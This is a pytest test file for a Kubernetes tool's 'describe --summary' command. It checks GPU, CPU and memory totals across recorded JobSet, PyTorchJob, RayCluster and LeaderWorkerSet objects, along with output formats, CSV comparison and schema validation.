"""`kartalint describe --summary`: fleet accounting on real recorded objects (docs/fleet.md).

The objects are every recorded JobSet, PyTorchJob, RayCluster and LeaderWorkerSet of the reference
data (the operators' recordings and example manifests), renamed one by one, as a cluster dump holds
them.
"""

from __future__ import annotations

import copy
import csv
import glob
import io
import json
import os
import re
import shutil
import subprocess
import sys

import pytest
import yaml
from conftest import REFERENCE, ROOT

from kartalint.cli import main
from kartalint.evaluation import quantity
from kartalint.testing.recording import is_recording, state_events

KINDS = ("JobSet", "PyTorchJob", "RayCluster", "LeaderWorkerSet")
SCHEMA = os.path.join(ROOT, "kartalint", "schema", "data", "summary.schema.json")


def recorded_workloads() -> list[dict]:
    found = []
    for path in sorted(glob.glob(os.path.join(REFERENCE, "real-data", "**", "*.yaml"), recursive=True)):
        with open(path, encoding="utf-8") as handle:
            data = yaml.load(handle, Loader=yaml.CSafeLoader)  # libyaml: the same data, faster
        if is_recording(data):
            found += [e.object for e in state_events(data) if isinstance(e.object, dict)]
    for path in sorted(glob.glob(os.path.join(REFERENCE, "objects", "*.yaml"))):
        with open(path, encoding="utf-8") as handle:
            found += [d for d in yaml.load_all(handle, Loader=yaml.CSafeLoader) if isinstance(d, dict)]
    return [o for o in found if o.get("kind") in KINDS]


def renamed(objects: list[dict]) -> list[dict]:
    out = []
    for i, obj in enumerate(objects):
        obj = copy.deepcopy(obj)
        meta = obj.setdefault("metadata", {})
        meta["name"] = f"{meta.get('name', 'w')}-{i}"
        meta["namespace"] = f"team-{i % 3}"
        meta["uid"] = f"uid-{i}"
        out.append(obj)
    return out


def docs_fleet() -> list[dict]:
    """The dump of docs/fleet.md: the recorded workloads, and two GPU workloads of them that hold no
    pod: the PyTorchJob `llama-finetune` once done (the status of a recorded PyTorchJob that
    succeeded) and the JobSet `my-distributed-training` paused (`spec.suspend`, the conditions of a
    recorded suspended JobSet)."""
    found = renamed(recorded_workloads())
    by_name = {o["metadata"]["name"]: o for o in found}
    done = copy.deepcopy(next(o for n, o in by_name.items() if n.startswith("llama-finetune-")))
    done["metadata"].update(name="llama-finetune-done", uid="uid-llama-done")
    done["status"] = copy.deepcopy(next(o for n, o in by_name.items() if n.startswith("karta-e2e-pytorch-completed")
                                        and o["status"]["conditions"][-1]["type"] == "Succeeded")["status"])  # fmt: skip
    paused = copy.deepcopy(next(o for n, o in by_name.items() if n.startswith("my-distributed-training-")))
    paused["metadata"].update(name="my-distributed-training-paused", uid="uid-training-paused")
    paused["spec"]["suspend"] = True
    suspended = next(o for n, o in by_name.items() if n.startswith("karta-e2e-jobset-suspended"))
    paused["status"] = {"conditions": copy.deepcopy(suspended["status"]["conditions"])}
    return [*found, done, paused]


@pytest.fixture(scope="module")
def workloads() -> list[dict]:
    found = renamed(recorded_workloads())
    assert {o["kind"] for o in found} >= {"JobSet", "PyTorchJob", "LeaderWorkerSet", "RayCluster"}
    return found


def as_list(items: list[dict]) -> str:
    return yaml.safe_dump({"apiVersion": "v1", "items": items, "kind": "List", "metadata": {"resourceVersion": ""}})


def run(capsys, *argv):
    code = main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


@pytest.fixture
def dump(tmp_path, monkeypatch, workloads):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "fleet.yaml").write_text(as_list(workloads))
    return tmp_path / "fleet.yaml"


def summary_json(capsys, *argv) -> tuple[int, dict, str]:
    code, out, err = run(capsys, "describe", *argv, "--summary", "-f", "json")
    return code, json.loads(out), err


def describe_totals(tree: str) -> list[tuple[str, int, int, int, int]]:
    """(Kind/name, replicas, GPUs, millicores, bytes) of each TOTAL row of describe's trees."""
    out = []
    for block in re.split(r"\n(?=[^\s/]+/\S+   namespace: )", tree):
        name = block.split("   ", 1)[0]
        total = next(line for line in block.splitlines() if line.startswith("TOTAL "))
        _, replicas, gpus, cpu, memory = total.split()
        millis = quantity.milli_value(quantity.parse(cpu))
        out.append((name, int(replicas), int(gpus), millis, quantity.value(quantity.parse(memory))))
    return out


def test_totals_equal_the_sum_of_each_objects_describe(dump, capsys, workloads):
    code, tree, err = run(capsys, "describe", str(dump))  # one tree per object, each with its TOTAL row
    assert code == 0, err
    each = describe_totals(tree)
    assert len(each) == len(workloads)
    code, doc, err = summary_json(capsys, str(dump))
    assert code == 0, err
    rows = doc["rows"]
    assert [f"{r['kind']}/{r['name']}" for r in rows] == [name for name, *_ in each]  # input order
    for row, (name, replicas, gpus, millis, size) in zip(rows, each, strict=True):
        assert row["outcome"] == "counted", row
        figures = {k: row["resources"][k] for k in ("gpus", "cpuMillis", "memoryBytes")}
        assert (row["replicas"], figures) == (replicas, {"gpus": gpus, "cpuMillis": millis, "memoryBytes": size}), name
        assert (
            row["resources"]["activeGpus"] == (gpus if row["active"] else 0)
            and row["resources"]["allocatedGpus"] is None
        )
    total = doc["totals"]["all"]
    assert total["workloads"] == len(workloads)
    assert total["replicas"] == sum(t[1] for t in each) > 0
    assert total["resources"] == {
        "gpus": sum(t[2] for t in each),
        "activeGpus": sum(r["resources"]["activeGpus"] for r in rows),
        "allocatedGpus": None,
        "cpuMillis": sum(t[3] for t in each),
        "memoryBytes": sum(t[4] for t in each),
    }
    assert total["resources"]["cpuMillis"] > 0 and total["resources"]["memoryBytes"] > 0
    # grouped by namespace and kind (the default): each group is the sum of its rows
    assert doc["groupBy"] == ["namespace", "kind"]
    for group in doc["totals"]["groups"]:
        mine = [r for r in rows if (r["namespace"], r["kind"]) == (group["key"]["namespace"], group["key"]["kind"])]
        assert group["workloads"] == len(mine) > 0
        assert group["resources"]["gpus"] == sum(r["resources"]["gpus"] for r in mine)
        assert group["replicas"] == sum(r["replicas"] for r in mine)
    assert sum(g["workloads"] for g in doc["totals"]["groups"]) == len(rows)


def test_the_table_shows_rows_totals_in_one_unit_per_column_and_group_by_is_repeatable(dump, capsys, workloads):
    code, out, err = run(capsys, "describe", str(dump), "--summary", "--group-by", "kind", "--group-by", "status")
    assert code == 0, err
    head, _, rest = out.partition("\nTotals by kind, status:\n")
    lines = head.splitlines()
    assert lines[0].split() == ["NAMESPACE", "KIND", "NAME", "DEFINITION", "STATUS", "REPLICAS", "GPU", "ACTIVE",
                                "CPU", "MEMORY"]  # fmt: skip
    assert len(lines) == 1 + len(workloads)
    table = rest.strip().splitlines()
    assert table[0].split() == ["KIND", "STATUS", "WORKLOADS", "REPLICAS", "GPU", "ACTIVE", "CPU", "MEMORY"]
    assert table[-1].startswith("TOTAL ")
    units = {re.sub(r"^\d+", "", line.split()[-1]) for line in table[1:] if line.split()[-1] != "0"}
    assert len(units) == 1  # every memory of the totals in the same unit
    _, doc, _ = summary_json(capsys, str(dump), "--group-by", "kind", "--group-by", "status")
    statuses = {(r["kind"], r["status"]) for r in doc["rows"]}
    assert {tuple(g["key"].values()) for g in doc["totals"]["groups"]} == statuses


def test_an_uncovered_kind_is_counted_and_a_failing_object_is_reported_without_stopping_the_rest(
    tmp_path, monkeypatch, capsys, workloads
):
    monkeypatch.chdir(tmp_path)
    with open(os.path.join(REFERENCE, "crds", "jobset.x-k8s.io_jobsets.yaml"), encoding="utf-8") as handle:
        crd = yaml.load(handle, Loader=yaml.CSafeLoader)  # a real object of a kind no definition covers
    broken = copy.deepcopy(next(o for o in workloads if o["kind"] == "JobSet"))
    broken["metadata"]["name"] = "broken"
    broken["spec"]["replicatedJobs"][0]["replicas"] = "two"  # the scale path's value is not a number
    items = [*workloads[:5], broken, crd, *workloads[5:]]
    (tmp_path / "fleet.yaml").write_text(as_list(items))
    code, doc, err = summary_json(capsys, "fleet.yaml")
    assert code == 1, err  # an object failed
    assert doc["objects"] == len(items)
    assert doc["uncovered"] == {
        "objects": 1,
        "byKind": [{"apiVersion": "apiextensions.k8s.io/v1", "kind": "CustomResourceDefinition", "objects": 1}],
    }
    failed = [r for r in doc["rows"] if r["outcome"] == "failed"]
    assert [r["name"] for r in failed] == ["broken"] and failed[0]["resources"] is None
    assert "replicasPath" in failed[0]["errors"][0] and "two" in failed[0]["errors"][0]
    assert doc["failed"] == 1
    assert doc["totals"]["all"]["workloads"] == len(workloads)  # the rest, all counted
    assert [r["name"] for r in doc["rows"]][5] == "broken"  # in its place
    code, out, _ = run(capsys, "describe", "fleet.yaml", "--summary")
    assert code == 1
    assert "not covered by any definition: 1 object(s): CustomResourceDefinition (apiextensions.k8s.io/v1) 1" in out
    assert re.search(
        r"failed, not in the totals: 1 object\(s\):\n  team-\d/JobSet/broken \(fleet.yaml:\d+\): .*replicasPath", out
    )


def test_csv_parses_with_the_csv_module_and_compare_passes_an_equal_file_and_finds_a_planted_difference(
    dump, capsys, workloads
):
    code, out, err = run(capsys, "describe", str(dump), "--summary", "-f", "csv", "-o", "summary.csv")
    assert code == 0 and out == "", err
    with open("summary.csv", encoding="utf-8", newline="") as handle:
        text = handle.read()
    assert "\r\n" in text and text.count("\n") == len(workloads) + 1
    records = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(records) == len(workloads)
    assert list(records[0]) == ["namespace", "kind", "name", "apiVersion", "definition", "status", "replicas",
                                "ready", "gpus", "activeGpus", "allocatedGpus", "cpuMillis", "memoryBytes",
                                "error"]  # fmt: skip
    assert all(r["gpus"].isdigit() and r["cpuMillis"].isdigit() and r["memoryBytes"].isdigit() for r in records)
    assert any("," in r["status"] for r in records) and '"Running,' in text  # quoted as RFC 4180 says
    gpus = sum(int(r["gpus"]) for r in records)

    # the summary's own CSV is an equal file (other columns are named and ignored)
    code, out, err = run(capsys, "describe", str(dump), "--summary", "--compare", "summary.csv")
    assert code == 0, out + err
    assert (
        "summary.csv (per namespace, apiVersion, kind, name; gpus, activeGpus, cpuMillis, memoryBytes, replicas): the same figures"
        in out
    )
    assert "columns not compared: definition, status, ready, error, allocatedGpus" in out  # allocatedGpus: all empty

    # a script's CSV: namespace,kind,name,gpus, with one planted difference
    planted = records[3]
    with open("costs.csv", "w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["namespace", "kind", "name", "gpus"])
        for r in records:
            writer.writerow([r["namespace"], r["kind"], r["name"], int(r["gpus"]) + (8 if r is planted else 0)])
    code, out, err = run(capsys, "describe", str(dump), "--summary", "--compare", "costs.csv")
    assert code == 1, err
    lines = [line.split() for line in out.splitlines()[1:]]
    assert lines[0] == ["NAMESPACE", "KIND", "NAME", "COLUMN", "SUMMARY", "FILE", "NOTE"]
    assert lines[1][:6] == [planted["namespace"], planted["kind"], planted["name"], "gpus", planted["gpus"],
                            str(int(planted["gpus"]) + 8)]  # fmt: skip
    assert " ".join(lines[1][6:]) == "no role of it asks for a GPU" and planted["gpus"] == "0"  # why it is 0
    assert lines[2] == ["TOTAL", "gpus", str(gpus), str(gpus + 8)]
    assert len(lines) == 3

    # per namespace only (a subset of the key columns): the figures are added up
    with open("by-namespace.csv", "w", encoding="utf-8") as handle:
        handle.write("namespace,gpus,cost\n")
        for namespace in sorted({r["namespace"] for r in records}):
            handle.write(f"{namespace},{sum(int(r['gpus']) for r in records if r['namespace'] == namespace)},1.5\n")
    code, out, _ = run(capsys, "describe", str(dump), "--summary", "--compare", "by-namespace.csv")
    assert code == 0 and "the same figures" in out and "columns not compared: cost" in out


def test_compare_says_why_a_key_differs_and_writes_each_format(tmp_path, monkeypatch, capsys, workloads):
    monkeypatch.chdir(tmp_path)
    with open(os.path.join(REFERENCE, "crds", "jobset.x-k8s.io_jobsets.yaml"), encoding="utf-8") as handle:
        crd = yaml.load(handle, Loader=yaml.CSafeLoader)
    (tmp_path / "fleet.yaml").write_text(as_list([workloads[0], crd]))
    name = workloads[0]["metadata"]["name"]
    (tmp_path / "costs.csv").write_text(f"kind,name,gpus\n{workloads[0]['kind']},{name},0\n"
                                        "CustomResourceDefinition,jobsets.jobset.x-k8s.io,4\nJobSet,gone,2\n")  # fmt: skip
    code, out, _ = run(capsys, "describe", "fleet.yaml", "--summary", "--compare", "costs.csv")
    assert code == 1
    assert "no definition covers apiextensions.k8s.io/v1 CustomResourceDefinition" in out
    assert re.search(r"JobSet\s+gone\s+gpus\s+-\s+2\s+not in the input", out)
    # figures that agree are not a difference, though an object of the key is not covered
    _, doc, _ = summary_json(capsys, "fleet.yaml")
    (tmp_path / "agree.csv").write_text(f"gpus\n{doc['totals']['all']['resources']['gpus']}\n")  # the fleet's total
    code, out, _ = run(capsys, "describe", "fleet.yaml", "--summary", "--compare", "agree.csv")
    assert code == 0 and "the same figures" in out and "not covered by any definition: 1 object(s)" in out
    for fmt in ("csv", "json", "markdown"):
        code, out, _ = run(capsys, "describe", "fleet.yaml", "--summary", "--compare", "costs.csv", "-f", fmt)
        assert code == 1, fmt
        if fmt == "csv":
            records = list(csv.DictReader(io.StringIO(out)))
            assert {(r["scope"], r["name"]) for r in records} >= {("row", "gone"), ("total", "")}
        elif fmt == "json":
            doc = json.loads(out)
            assert doc["document"] == "comparison" and doc["equal"] is False
            validate(doc)
        else:
            assert (
                out.startswith("**costs.csv (per kind, name; gpus)**: figures that differ")
                and "| JobSet | gone | gpus | - | 2 | not in the input |" in out
            )


def validate(document: dict) -> None:
    from jsonschema import Draft202012Validator

    with open(SCHEMA, encoding="utf-8") as handle:
        schema = json.load(handle)
    Draft202012Validator.check_schema(schema)
    errors = sorted(Draft202012Validator(schema).iter_errors(document), key=lambda e: list(e.path))
    assert not errors, [f"{list(e.path)}: {e.message}" for e in errors[:5]]


def test_json_is_valid_against_its_schema(tmp_path, monkeypatch, capsys, workloads):
    monkeypatch.chdir(tmp_path)
    broken = copy.deepcopy(workloads[0])
    broken["metadata"]["name"] = "broken"
    broken["spec"] = {"replicatedJobs": [{"name": "x", "replicas": "two"}]}
    (tmp_path / "fleet.yaml").write_text(
        as_list([*workloads, broken, {"apiVersion": "v1", "kind": "Secret"}]) + "---\n3\n"
    )
    code, doc, _ = summary_json(capsys, "fleet.yaml", "--group-by", "definition")
    assert code == 1 and doc["failed"] == 1 and doc["uncovered"]["objects"] == 1
    assert doc["unreadable"] and "expected a Kubernetes object" in doc["unreadable"][0]["error"]
    validate(doc)
    doc["rows"][0]["resources"]["gpus"] = -1
    with pytest.raises(AssertionError):
        validate(doc)  # the schema does constrain the document


def test_stdin_lists_multi_document_streams_and_several_files(tmp_path, monkeypatch, capsys, workloads):
    monkeypatch.chdir(tmp_path)
    first, second, third = workloads[:4], workloads[4:9], workloads[9:12]
    (tmp_path / "stream.yaml").write_text("".join("---\n" + yaml.safe_dump(o) for o in second))
    (tmp_path / "list.json").write_text(json.dumps({"apiVersion": "v1", "kind": "List", "items": third}, indent=4))
    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(as_list(first).encode())))
    code, doc, err = summary_json(capsys, "-", "stream.yaml", "list.json")
    assert code == 0, err
    assert [r["name"] for r in doc["rows"]] == [o["metadata"]["name"] for o in first + second + third]
    origins = [r["origin"] for r in doc["rows"]]
    assert origins[0].startswith("<stdin>:") and origins[4] == "stream.yaml:2" and origins[9].startswith("list.json:")
    # the same objects whichever way they come
    code, alone, _ = summary_json(capsys, "stream.yaml")
    assert [r["resources"] for r in alone["rows"]] == [r["resources"] for r in doc["rows"][4:9]]


def test_ready_replicas_come_from_the_pods_their_workload_owns(tmp_path, monkeypatch, capsys):
    from test_project import KUBECTL_JOBSET, kubectl_pods

    monkeypatch.chdir(tmp_path)
    jobset = yaml.safe_load(KUBECTL_JOBSET)
    other = copy.deepcopy(jobset)
    other["metadata"].update(name="other", uid="uid-other")
    (tmp_path / "fleet.yaml").write_text(as_list([jobset, other]))
    pods = yaml.safe_load(kubectl_pods())
    uid = jobset["metadata"]["uid"]
    jobs = [
        {"apiVersion": "batch/v1", "kind": "Job", "metadata": {"name": "job", "namespace": "default", "uid": "job",
         "ownerReferences": [{"kind": "JobSet", "name": "demo", "uid": uid, "controller": True}]}}
    ]  # fmt: skip
    pods["items"] += jobs  # kubectl get pods,jobs -o yaml
    (tmp_path / "pods.yaml").write_text(yaml.safe_dump(pods))
    ready = sum(1 for p in pods["items"] if p["kind"] == "Pod" and any(
        c.get("type") == "Ready" and c.get("status") == "True" for c in p.get("status", {}).get("conditions", [])))  # fmt: skip
    assert ready > 0
    code, doc, err = summary_json(capsys, "fleet.yaml", "--pods", "pods.yaml")
    assert code == 0, err
    assert doc["podsGiven"] is True
    assert [r["ready"] for r in doc["rows"]] == [ready, 0]  # the other JobSet owns none of them
    assert doc["totals"]["all"]["ready"] == ready
    code, out, _ = run(capsys, "describe", "fleet.yaml", "--summary", "--pods", "pods.yaml")
    assert out.splitlines()[0].split()[6] == "READY"


def test_markdown_puts_the_totals_first_for_a_job_summary(dump, capsys, workloads):
    code, out, err = run(capsys, "describe", str(dump), "--summary", "-f", "markdown")
    assert code == 0, err
    lines = out.splitlines()
    assert lines[0] == "## Workloads by namespace, kind"
    assert lines[2].startswith("| NAMESPACE | KIND | WORKLOADS |") and lines[3].startswith("|---|")
    assert f"<details><summary>{len(workloads)} workload(s)</summary>" in lines
    assert sum(1 for line in lines if line.startswith("| team-")) >= len(workloads)


def test_rows_are_written_with_at_most_a_batch_of_objects_read_ahead(workloads):
    """Objects are pulled one at a time, and the first entry comes out before more than a batch is read."""
    from kartalint.evaluation import Evaluator
    from kartalint.evaluation.fleet import summarise
    from kartalint.load.definitions import default_index, object_gvk
    from kartalint.load.objects import LoadedObject

    index = default_index()
    pulled = []

    def objects():
        for i, obj in enumerate(workloads):
            pulled.append(i)
            yield LoadedObject(f"x:{i}", obj)

    with Evaluator() as evaluator:
        entries = summarise(objects(), lambda o: index.find(object_gvk(o)), evaluator, batch=4)
        first = next(entries)
        assert first.name == workloads[0]["metadata"]["name"] and len(pulled) == 4
        rest = list(entries)
    assert len(rest) == len(workloads) - 1 and len(pulled) == len(workloads)


@pytest.mark.parametrize(
    "argv, message",
    [
        (["--summary", "-f", "tree"], "--summary writes table, csv, json, markdown, not tree"),
        (["-f", "csv"], "-f csv is a format of --summary"),
        (["--compare", "x.csv"], "go with --summary"),
        (["other.yaml"], "go with --summary"),
        (["-", "--summary", "--pods", "-"], "stdin ('-') can be read once"),
        (["--summary", "--compare", "none.csv"], "none.csv: cannot read file"),
        (["--summary", "--compare", "bad.csv"], "bad.csv:1: no column to compare"),
        (["--summary", "--compare", "words.csv"], "words.csv:2: gpus 'eight' is not a number"),
    ],
)
def test_usage_errors(dump, capsys, argv, message):
    (dump.parent / "bad.csv").write_text("namespace,kind,name\n")
    (dump.parent / "words.csv").write_text("name,gpus\nx,eight\n")
    code, out, err = run(capsys, "describe", str(dump), *argv)
    assert code == 2 and out == "" and message in err, err


def test_group_by_takes_only_known_keys(dump, capsys):
    with pytest.raises(SystemExit) as exit_info:
        main(["describe", str(dump), "--summary", "--group-by", "owner"])
    assert exit_info.value.code == 2 and "invalid choice: 'owner'" in capsys.readouterr().err


def test_the_cli_offers_the_group_keys_of_the_summary():
    from kartalint.cli import describe_summary
    from kartalint.evaluation import fleet_totals

    assert describe_summary.GROUP_KEYS == fleet_totals.GROUP_KEYS
    assert describe_summary.ROW_KINDS == fleet_totals.ROW_KINDS


def test_nothing_to_count_is_not_a_silent_success(tmp_path, monkeypatch, capsys):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "empty.yaml").write_text("# nothing\n")
    code, _out, err = run(capsys, "describe", "empty.yaml", "--summary")
    assert code == 2 and "no Kubernetes object found" in err
    (tmp_path / "secrets.yaml").write_text(as_list([{"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "s"}}]))
    code, _out, err = run(capsys, "describe", "secrets.yaml", "--summary", "-f", "csv")
    assert code == 2 and "no object is covered by a definition" in err
    assert "kartalint: note: not covered by any definition: 1 object(s): Secret (v1) 1" in err
    code, _out, err = run(capsys, "describe", "missing.yaml", "--summary")
    assert code == 2 and "kartalint: error: missing.yaml: no such file" in err.lower()


def test_the_documented_json_example_is_valid_against_the_schema():
    with open(os.path.join(ROOT, "docs", "fleet.md"), encoding="utf-8") as handle:
        text = handle.read()
    example = json.loads(re.search(r"```json\n(.*?)```", text, re.S).group(1))
    validate(example)
    assert example["totals"]["all"]["resources"]["gpus"] == 182  # the figures the page shows
    assert example["totals"]["all"]["resources"]["activeGpus"] == 116


def test_a_definition_upstream_refuses_fails_its_objects_unless_forced(tmp_path, monkeypatch, capsys, workloads):
    from conftest import BASE_DEFINITION

    monkeypatch.chdir(tmp_path)
    (tmp_path / "trainer.yaml").write_text(BASE_DEFINITION.replace("ownerRef: trainer", "ownerRef: nobody"))
    trainers = [
        {"apiVersion": "example.com/v1", "kind": "Trainer", "metadata": {"name": f"t{i}", "namespace": "ml"},
         "spec": {"roles": [{"name": "w", "replicas": 2, "template": {"spec": {"containers": [
             {"name": "c", "resources": {"limits": {"nvidia.com/gpu": 4}}}]}}}]}}
        for i in range(3)
    ]  # fmt: skip
    (tmp_path / "fleet.yaml").write_text(as_list([*trainers, workloads[0]]))
    code, doc, _ = summary_json(capsys, "fleet.yaml", "--definition", "trainer.yaml")
    assert code == 1
    outcomes = [(r["name"], r["outcome"]) for r in doc["rows"]]
    assert outcomes == [
        ("t0", "failed"),
        ("t1", "failed"),
        ("t2", "failed"),
        (workloads[0]["metadata"]["name"], "counted"),
    ]
    assert (
        "trainer.yaml is invalid (upstream refuses it): child component 'worker' has owner ref"
        in doc["rows"][0]["errors"][0]
    )
    code, doc, _ = summary_json(capsys, "fleet.yaml", "--definition", "trainer.yaml", "--force")
    assert [r["outcome"] for r in doc["rows"]] == ["failed"] * 3 + ["counted"]  # the view keeps "invalid karta"
    assert "invalid karta" in doc["rows"][0]["errors"][0]


# -- per-role rows, GPUs in use, comparisons keyed by group (issue 47) --------------------------------

FIXTURES = os.path.join(ROOT, "fixtures")


def fixture_object(path: str) -> dict:
    """The workload object of a fixture file of the catalog (``object:``)."""
    with open(path, encoding="utf-8") as handle:
        return yaml.load(handle, Loader=yaml.CSafeLoader)["object"]


def catalog_fixture_objects() -> list[tuple[str, dict]]:
    """(fixture path, object) of every fixture of every catalog definition that holds its object inline."""
    found = []
    for path in sorted(glob.glob(os.path.join(FIXTURES, "*", "*.yaml"))):
        if os.path.basename(os.path.dirname(path)) == "field-cases":
            continue
        with open(path, encoding="utf-8") as handle:
            data = yaml.load(handle, Loader=yaml.CSafeLoader)
        if isinstance(data, dict) and data.get("kind") == "KartaFixture" and isinstance(data.get("object"), dict):
            found.append((path, data["object"]))
    return found


def resource_tables(tree: str) -> list[list[tuple[str, int, int, int, int]]]:
    """Each workload's rows of describe's Resources table: (component, replicas, GPUs, millicores, bytes)."""
    out = []
    for block in re.split(r"\n(?=[^\s/]+/\S+   namespace: )", tree):
        lines = block.splitlines()
        start = lines.index("Resources:") + 2
        rows = []
        for line in lines[start:]:
            if line.startswith("TOTAL "):
                break
            name, replicas, gpus, cpu, memory = line.split()
            millis = quantity.milli_value(quantity.parse(cpu))
            rows.append((name, int(replicas), int(gpus), millis, quantity.value(quantity.parse(memory))))
        out.append(rows)
    return out


def test_role_rows_of_every_catalog_kinds_fixtures_are_describes_resources_table(tmp_path, monkeypatch, capsys):
    """`--rows role` on the object of every fixture of the catalog: each workload's roles, added up
    per component, are the rows of describe's Resources table; a component with instances has one
    row per instance, as describe -f json counts them; the roles add up to the workload's figures;
    the totals are the same as with one row per workload."""
    monkeypatch.chdir(tmp_path)
    found = catalog_fixture_objects()
    kinds = {(o.get("apiVersion"), o.get("kind")) for _, o in found}
    catalog = {os.path.basename(p)[: -len(".yaml")] for p in glob.glob(os.path.join(ROOT, "catalog", "*.yaml"))}
    assert {os.path.basename(os.path.dirname(p)) for p, _ in found} == catalog  # every catalog kind
    objects = []
    for i, (_, obj) in enumerate(found):
        obj = copy.deepcopy(obj)
        obj.setdefault("metadata", {})["name"] = f"{obj['metadata'].get('name', 'w')}-{i}"
        objects.append(obj)
    (tmp_path / "fleet.yaml").write_text(as_list(objects))
    _, tree, _ = run(capsys, "describe", "fleet.yaml")
    _, views, _ = run(capsys, "describe", "fleet.yaml", "-f", "json")
    tables, views = resource_tables(tree), json.loads(views)
    assert len(tables) == len(views) == len(objects)
    code, doc, err = summary_json(capsys, "fleet.yaml", "--rows", "role")
    assert doc["rowsPer"] == "role" and len(kinds) > 25, err
    by_workload: dict[str, list[dict]] = {}
    for row in doc["rows"]:
        by_workload.setdefault(row["name"], []).append(row)
    checked = 0
    for obj, table, view in zip(objects, tables, views, strict=True):
        rows = by_workload[obj["metadata"]["name"]]
        if rows[0]["outcome"] == "failed":
            assert view["errors"] or any(c["errors"] for c in view["components"])
            continue
        if rows[0]["role"] is None:  # no role in describe's table (a NIMCache: a download, no pod template)
            assert len(rows) == 1 and table == [] and rows[0]["resources"]["gpus"] == 0
            continue
        summed: dict[str, list[int]] = {}
        for row in rows:
            figures = summed.setdefault(row["role"], [0, 0, 0, 0])
            resources = row["resources"]
            for i, value in enumerate((row["replicas"], resources["gpus"], resources["cpuMillis"],
                                       resources["memoryBytes"])):  # fmt: skip
                figures[i] += value
        assert [(name, *figures) for name, figures in summed.items()] == table, obj["metadata"]["name"]
        components = {c["name"]: c for c in view["components"]}
        for row in rows:
            instances = {i["id"]: i for i in components[row["role"]]["instances"]}
            if row["instance"] is not None:
                instance = instances[row["instance"]]
                assert (row["replicas"], row["resources"]["gpus"], row["gpusPerPod"]) == (
                    instance["replicas"]["desired"],
                    instance["resources"]["gpus"],
                    instance["perReplica"]["gpus"],
                )
            assert row["resources"]["gpus"] == row["gpusPerPod"] * row["replicas"]
        assert sum(r["resources"]["gpus"] for r in rows) == view["resources"]["gpus"]
        checked += 1
    assert checked > 250
    _, per_workload, _ = summary_json(capsys, "fleet.yaml")
    assert per_workload["totals"] == doc["totals"]  # totals unchanged
    validate(doc)
    for fmt in ("table", "csv", "markdown"):
        code, out, _ = run(capsys, "describe", "fleet.yaml", "--summary", "--rows", "role", "-f", fmt)
        assert code == 0, fmt
        if fmt == "csv":
            records = list(csv.DictReader(io.StringIO(out)))
            assert len(records) == len(doc["rows"]) and list(records[0])[6:8] == ["role", "instance"]
            assert [int(r["gpus"] or 0) for r in records] == [
                (r["resources"] or {}).get("gpus", 0) for r in doc["rows"]]  # fmt: skip
        elif fmt == "table":
            head = out.splitlines()[0].split()
            assert head[3:5] == ["ROLE", "INSTANCE"] and "GPU/POD" in head
            assert len(out.split("\nTotals by")[0].splitlines()) == 1 + sum(
                1 for r in doc["rows"] if r["outcome"] == "counted")  # fmt: skip
        else:
            assert "role row(s)</summary>" in out and "| ROLE | INSTANCE |" in out


ACTIVITY = [  # fixture, active GPUs as a share of its desired GPUs (all or none), why
    ("batch-job-v1/running.yaml", True, "status Running"),
    ("batch-job-v1/completed.yaml", False, "status Completed"),
    ("batch-job-v1/failed.yaml", False, "status Failed"),
    ("batch-job-v1/suspended.yaml", False, "status Suspended"),
    ("batch-cronjob-v1/idle.yaml", False, "a CronJob with no active Job (.status.active is empty)"),
    ("batch-cronjob-v1/running.yaml", True, "status Running"),
    ("batch-cronjob-v1/suspended.yaml", False, "a CronJob with no active Job (.status.active is empty)"),
    ("batch-volcano-sh-job-v1alpha1/running.yaml", True, "status Running"),
]


def test_active_gpus_are_the_desired_ones_of_workloads_that_hold_their_pods(tmp_path, monkeypatch, capsys):
    """Desired GPUs whatever the status (`gpus`), in use only while the workload holds its pods
    (`activeGpus`): a completed, failed or suspended Job, an idle CronJob and an object being
    deleted count 0; a running Job and a CronJob with an active Job count their desired GPUs."""
    monkeypatch.chdir(tmp_path)
    objects = [fixture_object(os.path.join(FIXTURES, path)) for path, _, _ in ACTIVITY]
    deleting = copy.deepcopy(objects[0])  # the running Job, being deleted (kubectl delete, a finalizer pending)
    deleting["metadata"].update(name="train-deleting", deletionTimestamp="2026-09-20T11:00:00Z", finalizers=["x/y"])
    objects.append(deleting)
    (tmp_path / "fleet.yaml").write_text(as_list(objects))
    code, doc, err = summary_json(capsys, "fleet.yaml")
    assert code == 0, err
    expected = [*ACTIVITY, ("deleting", False, "being deleted (metadata.deletionTimestamp)")]
    for row, (path, active, why) in zip(doc["rows"], expected, strict=True):
        assert row["resources"]["gpus"] > 0, path  # every one of them asks for GPUs
        assert (row["active"], row["activity"]) == (active, why), path
        assert row["resources"]["activeGpus"] == (row["resources"]["gpus"] if active else 0), path
    total = doc["totals"]["all"]["resources"]
    assert total["activeGpus"] == sum(r["resources"]["gpus"] for r in doc["rows"] if r["active"]) < total["gpus"]
    assert {a["activity"]: a["workloads"] for a in doc["notActive"]} == {
        "status Completed": 1, "status Failed": 1, "status Suspended": 1,
        "a CronJob with no active Job (.status.active is empty)": 2,
        "being deleted (metadata.deletionTimestamp)": 1}  # fmt: skip
    # --explain says the mapping and what is not active; --status keeps only those rows
    idle = sum(r["resources"]["gpus"] for r in doc["rows"] if r["activity"].startswith("a CronJob"))
    code, out, _ = run(capsys, "describe", "fleet.yaml", "--summary", "--explain")
    assert "not active (activeGpus = 0): statuses Completed, Failed, Suspended, Suspending" in out
    assert f"  a CronJob with no active Job (.status.active is empty): 2 workload(s), {idle} desired GPU(s)" in out
    code, doc, _ = summary_json(capsys, "fleet.yaml", "--status", "running", "--status", "Completed,Failed")
    assert code == 0 and doc["statuses"] == ["Completed", "Failed", "Running"]
    assert {r["status"] for r in doc["rows"]} == {"Running", "Completed", "Failed"} and len(doc["rows"]) == 6
    assert doc["totals"]["all"]["workloads"] == 6 and sum(f["workloads"] for f in doc["filtered"]) == 3
    code, out, err = run(capsys, "describe", "fleet.yaml", "--summary", "--status", "Pending")
    assert code == 2 and "--status 'Pending': not a status (choose from Resuming" in err


def test_allocated_gpus_are_those_of_pods_bound_to_a_node_and_not_finished(tmp_path, monkeypatch, capsys):
    from test_project import KUBECTL_JOBSET, kubectl_pods

    monkeypatch.chdir(tmp_path)
    jobset = yaml.safe_load(KUBECTL_JOBSET)
